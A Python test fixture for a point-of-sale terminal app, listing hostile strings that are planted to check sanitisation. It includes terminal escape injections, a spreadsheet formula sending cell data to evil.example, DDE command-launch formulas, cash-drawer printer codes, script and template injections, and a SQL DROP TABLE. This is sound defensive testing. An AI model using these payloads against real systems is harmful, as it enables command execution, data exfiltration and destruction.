"""What a terminal, a printer, a spreadsheet, a reader or the screens' own markup would obey, if it were let."""

import json
import re
from collections.abc import Mapping

from pos_tui.text import OBEYED
from tests.real import DATA

MARK = "PWN"
"""Stands in each that is planted, so that a test can tell that it was there."""
HOSTILE: Mapping[str, str] = {
    "OSC sets the window's title": "\x1b]0;PWN\x07",
    "OSC writes the clipboard": "\x1b]52;c;UFdO\x1b\\PWN",
    "OSC links elsewhere": "\x1b]8;;https://evil.example\x1b\\PWN\x1b]8;;\x1b\\",
    "CSI clears the screen": "\x1b[2J\x1b[H\x1b[31mTOTAL 0.01 PWN",
    "CSI asks the terminal to answer": "\x1b[6n\x1b[c\x1b[>0q PWN",
    "CSI turns on the mouse and pasting": "\x1b[?1003h\x1b[?2004l PWN",
    "DCS defines a key": "\x1bP0;1|17/504f574e\x1b\\PWN",
    "APC and PM and SOS": "\x1b_PWN\x1b\\\x1b^PWN\x1b\\\x1bXPWN\x1b\\",
    "a reset": "\x1bcPWN",
    "C1 instead of ESC": "\x9b2J\x9d0;PWN\x9c\x90q\x9c\x85\x84",
    "C0": "PWN\x00\x07\x08\x08\x0b\x0c\x0e\x0f\x11\x13\x18\x1a\x7f",
    "lines and tabs": "PWN\r\nTOTAL 0.01\tCASH\n\x0b\x0c\x1c\x1d\x1e",
    "bidi overrides": "\u202ePWN\u202c\u2066\u2067PWN\u2069\u200e\u200f\u061c",
    "zero width": "P\u200bW\u2060N\ufeff\u00ad\u180e",
    "line and paragraph separators": "PWN\u2028TOTAL\u20290.01",
    "tags and annotations": "PWN\U000e0041\U000e007f\ufff9a\ufffab\ufffb",
    "a flood of marks": "PWN" + "z\u0335\u0336\u0337\u0338\u0330\u0331" * 40,
    "right to left": "مشروب PWN غازي שלום",
    "very long": "PWN" + "x" * 20_000,
    "wide and joined": "茶" * 90 + "👨\u200d👩\u200d👧\u200d👦 PWN",
    "Rich markup": "[bold red]PWN[/] [/] [link=https://evil.example]x[/link] [on blue",
    "a Textual action": "[@click=app.quit]PWN[/] [@click=app.leave()]x[/]",
    "Textual markup of a style": "[$error on $panel]PWN[/] \\[PWN]",
    "a formula": '=HYPERLINK("https://evil.example?"&A1,"PWN")',
    "a formula by a plus": "+PWN|' /C calc'!A0",
    "a formula by a minus": "-2+3+cmd|'PWN'!A0",
    "a formula by an at": "@SUM(1+9)*PWN",
    "a formula behind a tab": "\t=1+1 PWN",
    "a formula behind a line": "\r\n=1+1 PWN",
    "a wide formula": "\uff1d1+1 PWN",
    "a guarded formula": "'=1+1 PWN",
    "quotes and separators": 'PWN","x";\'--\n\\',
    "a printer's cut and drawer": "\x1dV\x00\x1bp\x00\x19\xfa\x10\x14\x01PWN\x1b@",
    "a printer's codes": "PWN\x1ba\x01\x1d!\x11\x1bt\x13\x1c.",
    "XML and HTML": "</text></svg><script>PWN</script>&#27;[2J]]>",
    "a path and a template": "../../PWN {0.__class__} %s ${PWN} {{7*7}}",
    "SQL": "PWN'); DROP TABLE document;--",
}
UNSTORABLE: Mapping[str, str] = {
    "half of a letter": "PWN\ud800",
    "the other half": "\udc80PWN\udfff",
    "nothing at all": "\x00PWN\x00",
}
"""What no database takes."""
ESCAPES = re.compile(r"\x1b\[[\d;?]*[A-Za-z]")
"""What the till itself sends."""


def naughty() -> list[str]:
    """The Big List of Naughty Strings, where its file lies beside the checkout."""
    if DATA is None:
        return []
    strings: list[str] = json.loads((DATA / "vectors" / "blns.json").read_text(encoding="utf-8"))
    return strings


def obeyed_in(text: str) -> str:
    """What in it would be obeyed: nothing, where all is well."""
    return "".join(OBEYED.findall(text))
